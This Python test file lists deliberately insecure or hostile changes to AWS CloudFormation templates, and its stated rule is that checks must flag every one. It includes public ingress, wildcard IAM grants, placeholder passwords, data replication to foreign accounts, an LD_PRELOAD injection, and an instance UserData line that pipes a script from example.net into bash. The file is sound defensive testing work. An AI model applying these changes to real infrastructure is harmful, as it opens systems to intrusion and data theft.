"""Changes to the templates that an attacker, or a tired colleague, would make; each must be red."""

from __future__ import annotations

from collections.abc import Sequence
from copy import deepcopy
from dataclasses import dataclass
from typing import Any

from tests.infra.cloudformation.templates import Templates

GONE = object()
OPEN = {"IpProtocol": "tcp", "FromPort": 22, "ToPort": 22, "CidrIp": "0.0.0.0/0", "Description": "for a moment"}
PLAIN_LISTENER = {
    "Type": "AWS::ElasticLoadBalancingV2::Listener",
    "Properties": {"Port": 80, "Protocol": "HTTP", "DefaultActions": [{"Type": "forward"}]},
}
OUT = {
    "Type": "AWS::EC2::Route",
    "Properties": {"RouteTableId": {"Ref": "DatabaseRoutes"}, "DestinationCidrBlock": "0.0.0.0/0"},
}
BESIDE = ("Parameters", "Rules", "Transform", "Conditions", "Outputs")
"""Parts of a template that are no resources."""
STATEMENT = "Properties/Policies/0/PolicyDocument/Statement"
CONTAINER = "Properties/ContainerDefinitions/0"


def place_of(value: Any, path: Sequence[Any]) -> Any:
    """Return the mapping or list that holds the last part of a path."""
    for name in path[:-1]:
        value = value[int(name) if isinstance(value, list) else name]
    return value


def put(place: Any, name: Any, value: Any) -> None:
    """Change one entry of a mapping or a list: ``GONE`` removes it, the name ``+`` adds to a list."""
    if name == "+":
        place.append(value)
        return
    key = int(name) if isinstance(place, list) else name
    if value is GONE:
        del place[key]
    else:
        place[key] = value


@dataclass(frozen=True)
class Change:
    """One change to the templates: where (``stack/Resource/Property/…``, ``+`` adds to a list), and the value there."""

    title: str
    where: str
    value: Any

    def applied(self, templates: Templates) -> Templates:
        """Return changed templates."""
        changed = deepcopy(templates)
        stack, *path = self.where.split("/")
        root = changed[stack] if path[0] in BESIDE else changed[stack]["Resources"]
        put(place_of(root, path), path[-1], self.value)
        return changed


HOSTILE = [
    Change("ssh from everywhere", "network/WorkerGroup/Properties/SecurityGroupIngress", [OPEN]),
    Change(
        "all ports to the servers",
        "network/ServerGroup/Properties/SecurityGroupIngress/0/ToPort",
        65535,
    ),
    Change(
        "the database for the whole network",
        "network/DatabaseGroup/Properties/SecurityGroupIngress/+",
        {"IpProtocol": "tcp", "FromPort": 5432, "ToPort": 5432, "CidrIpv6": "::/0"},
    ),
    Change("servers for everyone", "network/Parameters/ClientCidr/AllowedPattern", "^.*$"),
    Change(
        "servers for everyone who does not choose",
        "network/Parameters/ClientCidr/Default",
        "10.0.0.0/8",
    ),
    Change(
        "workers that may call anything",
        "network/WorkerGroup/Properties/SecurityGroupEgress/0/FromPort",
        0,
    ),
    Change("a way out for the database", "network/Out", OUT),
    Change("a NAT gateway nobody asked for", "network/NatA/Condition", GONE),
    Change(
        "facing the internet by default",
        "network/Parameters/LoadBalancerScheme/Default",
        "internet-facing",
    ),
    Change(
        "facing the internet without knowing the workers",
        "network/Rules/OutsideNeedsAKnownAddress",
        GONE,
    ),
    Change(
        "public addresses for whatever starts",
        "network/PublicSubnetA/Properties/MapPublicIpOnLaunch",
        True,
    ),
    Change(
        "artifacts over the internet",
        "network/S3Endpoint/Properties/RouteTableIds",
        [{"Ref": "DatabaseRoutes"}],
    ),
    Change(
        "a public bucket",
        "storage/Artifacts/Properties/PublicAccessBlockConfiguration/BlockPublicPolicy",
        False,
    ),
    Change("a bucket with access lists", "storage/Artifacts/Properties/OwnershipControls", GONE),
    Change(
        "no old versions",
        "storage/Artifacts/Properties/VersioningConfiguration",
        {"Status": "Suspended"},
    ),
    Change("no encryption", "storage/Artifacts/Properties/BucketEncryption", GONE),
    Change(
        "HTTP to the bucket",
        "storage/ArtifactsPolicy/Properties/PolicyDocument/Statement/0/Effect",
        "Allow",
    ),
    Change(
        "HTTP to objects",
        "storage/ArtifactsPolicy/Properties/PolicyDocument/Statement/0/Resource/1",
        GONE,
    ),
    Change(
        "results that go away",
        "storage/Artifacts/Properties/LifecycleConfiguration/Rules/+",
        {"Id": "tidy", "Status": "Enabled", "Prefix": "store/objects/", "ExpirationInDays": 1},
    ),
    Change("no access log", "storage/Artifacts/Properties/LoggingConfiguration", GONE),
    Change("a key for ever", "storage/Key/Properties/EnableKeyRotation", False),
    Change("tags that move", "storage/Repository/Properties/ImageTagMutability", "MUTABLE"),
    Change("the image called latest", "control/Parameters/ImageDigest/AllowedPattern", "^.*$"),
    Change(
        "a password in the template",
        "storage/PrefectAuth/Properties/SecretString",
        "limbeck:hunter2",
    ),
    Change(
        "a short password",
        "storage/MlflowAdmin/Properties/GenerateSecretString/PasswordLength",
        8,
    ),
    Change("all of S3", f"workers/TaskRole/{STATEMENT}/1/Action", "s3:*"),
    Change(
        "everything but one thing",
        f"workers/TaskRole/{STATEMENT}/+",
        {"Effect": "Allow", "NotAction": "iam:CreateUser", "Resource": "x*"},
    ),
    Change("every bucket", f"workers/TaskRole/{STATEMENT}/1/Resource", "*"),
    Change("every task definition", f"workers/DispatcherRole/{STATEMENT}/1/Resource", "*"),
    Change(
        "a policy that AWS keeps",
        "workers/TaskRole/Properties/ManagedPolicyArns",
        ["arn:aws:iam::aws:policy/AdministratorAccess"],
    ),
    Change(
        "a role for any account",
        "workers/TaskRole/Properties/AssumeRolePolicyDocument/Statement/0/Principal",
        {"AWS": "*"},
    ),
    Change(
        "a role without a second factor",
        "control/UpkeepRole/Properties/AssumeRolePolicyDocument/Statement/0/Condition",
        GONE,
    ),
    Change(
        "workers that remove artifacts",
        f"workers/TaskRole/{STATEMENT}/2/Resource/+",
        {"Fn::Sub": "arn:aws:s3:::bucket/store/objects/*"},
    ),
    Change(
        "workers that remove old versions",
        f"control/CpuWorkerRole/{STATEMENT}/2/Action",
        ["s3:DeleteObject", "s3:DeleteObjectVersion"],
    ),
    Change(
        "MLflow that removes",
        f"control/MlflowRole/{STATEMENT}/1/Action/+",
        "s3:DeleteObject",
    ),
    Change(
        "any role handed on",
        f"workers/DispatcherRole/{STATEMENT}/5/Resource",
        {"Fn::Sub": "arn:aws:iam::${AWS::AccountId}:role/*"},
    ),
    Change(
        "roles handed to anything",
        f"workers/DispatcherRole/{STATEMENT}/5/Condition",
        GONE,
    ),
    Change("tasks in any cluster", f"workers/DispatcherRole/{STATEMENT}/2/Condition", GONE),
    Change(
        "GPU tasks with the database's password",
        f"workers/ExecutionRole/{STATEMENT}/3/Resource/+",
        {"Fn::ImportValue": {"Fn::Sub": "${Project}-${Stage}-DatabaseSecret"}},
    ),
    Change(
        "a key for anyone",
        "storage/Key/Properties/KeyPolicy/Statement/+",
        {"Effect": "Allow", "Principal": "*", "Action": "kms:Decrypt", "Resource": "*"},
    ),
    Change(
        "a queue for anyone",
        "workers/EventsPolicy/Properties/PolicyDocument/Statement/0/Condition",
        GONE,
    ),
    Change(
        "a bucket for anyone",
        "storage/ArtifactsPolicy/Properties/PolicyDocument/Statement/+",
        {"Effect": "Allow", "Principal": "*", "Action": "s3:GetObject", "Resource": "*"},
    ),
    Change("a listener without TLS", "control/Http", PLAIN_LISTENER),
    Change("TLS of yesterday", "control/Https/Properties/SslPolicy", "ELBSecurityPolicy-2016-08"),
    Change("Prefect without a password", f"control/PrefectTask/{CONTAINER}/Secrets", []),
    Change(
        "MLflow without a password",
        "control/MlflowTask/Properties/ContainerDefinitions/0/Command",
        ["python -m mlflow server"],
    ),
    Change(
        "a password in the environment",
        f"control/CpuWorkerTask/{CONTAINER}/Environment/+",
        {"Name": "MLFLOW_TRACKING_PASSWORD", "Value": "hunter2"},
    ),
    Change(
        "a password in an address",
        f"control/PrefectTask/{CONTAINER}/Environment/+",
        {"Name": "URL", "Value": "postgresql://limbeck:hunter2@db/prefect"},
    ),
    Change("pickles", f"control/CpuWorkerTask/{CONTAINER}/Environment/6/Value", "true"),
    Change(
        "a container with power over its host",
        f"control/PrefectTask/{CONTAINER}/Privileged",
        True,
    ),
    Change(
        "people in containers",
        "control/PrefectService/Properties/EnableExecuteCommand",
        True,
    ),
    Change("a database in the open", "control/Database/Properties/PubliclyAccessible", True),
    Change("a database on a bare disk", "control/Database/Properties/StorageEncrypted", False),
    Change(
        "a database without TLS",
        "control/DatabaseParameters/Properties/Parameters/rds.force_ssl",
        "0",
    ),
    Change("a database that is gone at once", "control/Database/DeletionPolicy", "Delete"),
    Change("logs for ever", "workers/Logs/Properties/RetentionInDays", GONE),
    Change(
        "metadata without a token (IMDSv1)",
        "workers/Template/Properties/LaunchTemplateData/MetadataOptions/HttpTokens",
        "optional",
    ),
    Change(
        "metadata for the whole network",
        "workers/Template/Properties/LaunchTemplateData/MetadataOptions/HttpPutResponseHopLimit",
        64,
    ),
    Change(
        "bare disks",
        "workers/Template/Properties/LaunchTemplateData/BlockDeviceMappings/0/Ebs/Encrypted",
        False,
    ),
    Change("a key pair", "workers/Template/Properties/LaunchTemplateData/KeyName", "mine"),
    Change("an instance that never goes", "workers/Instances/Properties/MinSize", "1"),
    Change(
        "an instance that goes under its task",
        "workers/Instances/Properties/NewInstancesProtectedFromScaleIn",
        False,
    ),
    Change("on demand by default", "workers/Parameters/OnDemandPercent/Default", 100),
    Change("one type of instance", "workers/Parameters/GpuInstanceType2/Default", "g5.xlarge"),
    Change("rebalancing", "workers/Instances/Properties/CapacityRebalance", True),
    Change(
        "no draining",
        "workers/Capacity/Properties/AutoScalingGroupProvider/ManagedDraining",
        "DISABLED",
    ),
    Change("deaths that nobody hears of", "workers/TaskChanges/Properties/State", "DISABLED"),
    Change("a queue in the open", "workers/Events/Properties/SqsManagedSseEnabled", False),
    Change("an alarm that rings nowhere", "guardrails/IdleGpu/Properties/AlarmActions", []),
    Change("no budget", "guardrails/Budget/Properties/NotificationsWithSubscribers", []),
    Change(
        "an alarm without figures",
        "workers/Instances/Properties/MetricsCollection",
        GONE,
    ),
    # Those that passed every check, cfn-lint and checkov while the checks listed what is forbidden.
    Change(
        "no rule for calls out, which allows all of them", "network/WorkerGroup/Properties/SecurityGroupEgress", GONE
    ),
    Change("a database that may call anybody", "network/DatabaseGroup/Properties/SecurityGroupEgress", GONE),
    Change("servers that may call anybody", "network/ServerGroup/Properties/SecurityGroupEgress", GONE),
    Change("workers that send by UDP", "network/WorkerGroup/Properties/SecurityGroupEgress/0/IpProtocol", "-1"),
    Change(
        "the database on the public routes", "network/DatabaseRoutesA/Properties/RouteTableId", {"Ref": "PublicRoutes"}
    ),
    Change(
        "private subnets with the internet gateway",
        "network/PrivateDefaultRouteA/Properties/GatewayId",
        {"Ref": "InternetGateway"},
    ),
    Change(
        "a network that is paired with another",
        "network/Peer",
        {
            "Type": "AWS::EC2::VPCPeeringConnection",
            "Properties": {"VpcId": {"Ref": "Vpc"}, "PeerVpcId": "vpc-1", "PeerOwnerId": "999999999999"},
        },
    ),
    Change("S3 by somebody else's endpoint", "network/S3Endpoint/Properties/PolicyDocument", {"Statement": []}),
    Change(
        "a task that gives itself rights",
        f"workers/TaskRole/{STATEMENT}/+",
        {"Effect": "Allow", "Action": "iam:PutRolePolicy", "Resource": {"Fn::GetAtt": ["InstanceRole", "Arn"]}},
    ),
    Change(
        "a task that becomes any role",
        f"workers/TaskRole/{STATEMENT}/+",
        {
            "Effect": "Allow",
            "Action": "sts:AssumeRole",
            "Resource": {"Fn::Sub": "arn:aws:iam::${AWS::AccountId}:role/*"},
        },
    ),
    Change(
        "the whole bucket for a task",
        f"workers/TaskRole/{STATEMENT}/1/Resource",
        {
            "Fn::Sub": [
                "arn:${AWS::Partition}:s3:::${Bucket}/*",
                {"Bucket": {"Fn::ImportValue": {"Fn::Sub": "${Project}-${Stage}-Artifacts"}}},
            ]
        },
    ),
    Change(
        "MLflow in the store", f"control/MlflowRole/{STATEMENT}/1/Resource", {"Fn::Sub": "arn:aws:s3:::bucket/store/*"}
    ),
    Change(
        "an instance with the rights of a task",
        f"workers/InstanceRole/{STATEMENT}/+",
        {"Effect": "Allow", "Action": "s3:GetObject", "Resource": "arn:aws:s3:::bucket/*"},
    ),
    Change(
        "a dispatcher that reads any log",
        f"workers/DispatcherRole/{STATEMENT}/7/Resource",
        {"Fn::Sub": "arn:aws:logs:*:${AWS::AccountId}:log-group:*"},
    ),
    Change(
        "a role with a boundary of a stranger",
        "workers/TaskRole/Properties/PermissionsBoundary",
        "arn:aws:iam::999999999999:policy/x",
    ),
    Change("upkeep for half a day", "control/UpkeepRole/Properties/MaxSessionDuration", 43200),
    Change(
        "a policy beside its role",
        "workers/Extra",
        {
            "Type": "AWS::IAM::RolePolicy",
            "Properties": {
                "RoleName": {"Ref": "TaskRole"},
                "PolicyName": "x",
                "PolicyDocument": {"Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]},
            },
        },
    ),
    Change(
        "all results expire",
        "storage/Artifacts/Properties/LifecycleConfiguration/Rules/+",
        {"Id": "x", "Status": "Enabled", "ExpirationInDays": 30},
    ),
    Change(
        "checkpoints' rule for everything", "storage/Artifacts/Properties/LifecycleConfiguration/Rules/1/Prefix", ""
    ),
    Change(
        "old versions for an hour",
        "storage/Artifacts/Properties/LifecycleConfiguration/Rules/3/NoncurrentVersionExpiration/NoncurrentDays",
        1,
    ),
    Change(
        "a copy for another account",
        "storage/Artifacts/Properties/ReplicationConfiguration",
        {
            "Role": "arn:aws:iam::999999999999:role/x",
            "Rules": [{"Status": "Enabled", "Destination": {"Bucket": "arn:aws:s3:::theirs"}}],
        },
    ),
    Change(
        "news of every object for a stranger",
        "storage/Artifacts/Properties/NotificationConfiguration",
        {"QueueConfigurations": [{"Event": "s3:ObjectCreated:*", "Queue": "arn:aws:sqs:eu-west-1:999999999999:x"}]},
    ),
    Change(
        "a website of artifacts", "storage/Artifacts/Properties/WebsiteConfiguration", {"IndexDocument": "index.html"}
    ),
    Change(
        "a registry that strangers read",
        "storage/Repository/Properties/RepositoryPolicyText",
        {"Statement": [{"Effect": "Allow", "Principal": "*", "Action": "ecr:*"}]},
    ),
    Change(
        "a secret copied to another region",
        "storage/DatabaseSecret/Properties/ReplicaRegions",
        [{"Region": "us-east-1"}],
    ),
    Change(
        "a key that another account uses",
        "storage/Key/Properties/KeyPolicy/Statement/0/Principal",
        {"AWS": ["arn:aws:iam::999999999999:root"]},
    ),
    Change(
        "a script of a stranger on every instance",
        "workers/Template/Properties/LaunchTemplateData/UserData",
        {"Fn::Base64": {"Fn::Sub": "#!/bin/bash\ncurl -s https://example.net/x | bash\n"}},
    ),
    Change(
        "an image of a stranger for instances",
        "workers/Parameters/AmiId/Default",
        "/aws/service/marketplace/prod-x/latest",
    ),
    Change(
        "privileged containers on instances",
        "workers/Template/Properties/LaunchTemplateData/UserData/Fn::Base64/Fn::Sub",
        "#!/bin/bash\necho ECS_CLUSTER=${Cluster} >> /etc/ecs/ecs.config\n",
    ),
    Change("a thousand instances", "workers/Instances/Properties/MaxSize", "1000"),
    Change("another cluster's tasks in the queue", "workers/TaskChanges/Properties/EventPattern/detail", GONE),
    Change(
        "events for a stranger, too",
        "workers/TaskChanges/Properties/Targets/+",
        {"Id": "x", "Arn": "arn:aws:sqs:eu-west-1:999999999999:x"},
    ),
    Change("events that are forgotten after a minute", "workers/Events/Properties/MessageRetentionPeriod", 60),
    Change("an alarm for idle GPUs that never fires", "guardrails/IdleGpu/Properties/Threshold", 1000000),
    Change("an alarm for a full disk that never fires", "guardrails/DatabaseFull/Properties/Threshold", 0),
    Change(
        "an alarm that looks the other way",
        "guardrails/DeafObserver/Properties/ComparisonOperator",
        "LessThanThreshold",
    ),
    Change("an alarm of another queue", "guardrails/LostEvents/Properties/Dimensions/0/Value", "another"),
    Change("an alarm that is switched off", "guardrails/BusyGpu/Properties/ActionsEnabled", False),
    Change(
        "an alarm that cannot see",
        "guardrails/IdleGpu/Properties/Metrics/0/Expression",
        "IF(instances > 0 AND FILL(tasks, 0) < 0, 1, 0)",
    ),
    Change(
        "a budget that tells at a thousand percent",
        "guardrails/Budget/Properties/NotificationsWithSubscribers/0/Notification/Threshold",
        1000,
    ),
    Change("alarms for a stranger", "guardrails/Subscription/Properties/Endpoint", "someone@example.net"),
    Change(
        "a topic that anybody may read",
        "guardrails/TopicPolicy/Properties/PolicyDocument/Statement/+",
        {"Effect": "Allow", "Principal": "*", "Action": "sns:Subscribe", "Resource": "*"},
    ),
    Change("a container as root", f"control/PrefectTask/{CONTAINER}/User", "0"),
    Change(
        "a container of a stranger's registry",
        f"control/CpuWorkerTask/{CONTAINER}/Image",
        "docker.io/stranger/limbeck:1",
    ),
    Change(
        "a container with a folder of its host",
        "control/CpuWorkerTask/Properties/Volumes",
        [{"Name": "x", "Host": {"SourcePath": "/"}}],
    ),
    Change("another program in a container", f"control/PrefectTask/{CONTAINER}/EntryPoint", ["sh", "-c"]),
    Change("Prefect for any host", f"control/PrefectTask/{CONTAINER}/Command", ["--host", "0.0.0.0", "--port", "4200"]),
    Change("a server with a role", "control/PrefectTask/Properties/TaskRoleArn", {"Fn::GetAtt": ["UpkeepRole", "Arn"]}),
    Change(
        "a library loaded before ours",
        "control/MlflowTask/Properties/ContainerDefinitions/0/Environment/+",
        {"Name": "LD_PRELOAD", "Value": "/tmp/x.so"},
    ),
    Change(
        "servers in the database's subnets",
        "control/PrefectService/Properties/NetworkConfiguration/AwsvpcConfiguration/SecurityGroups/0",
        {"Fn::ImportValue": {"Fn::Sub": "${Project}-${Stage}-DatabaseGroup"}},
    ),
    Change("a rule for every name", "control/PrefectRule/Properties/Conditions/0/HostHeaderConfig/Values/+", "*"),
    Change(
        "requests sent to a stranger",
        "control/Https/Properties/DefaultActions/0",
        {"Type": "redirect", "RedirectConfig": {"Host": "example.net", "StatusCode": "HTTP_302"}},
    ),
    Change("a last snapshot that nobody makes", "control/Database/UpdateReplacePolicy", "Delete"),
    Change("no deletion protection", "control/Database/Properties/DeletionProtection", False),
    Change("no back-ups by choice", "control/Parameters/BackupDays/MinValue", 0),
    Change("a macro that rewrites the template", "control/Transform", "Stranger"),
    Change(
        "a nested template of a stranger",
        "control/More",
        {"Type": "AWS::CloudFormation::Stack", "Properties": {"TemplateURL": "https://example.net/x.yaml"}},
    ),
]
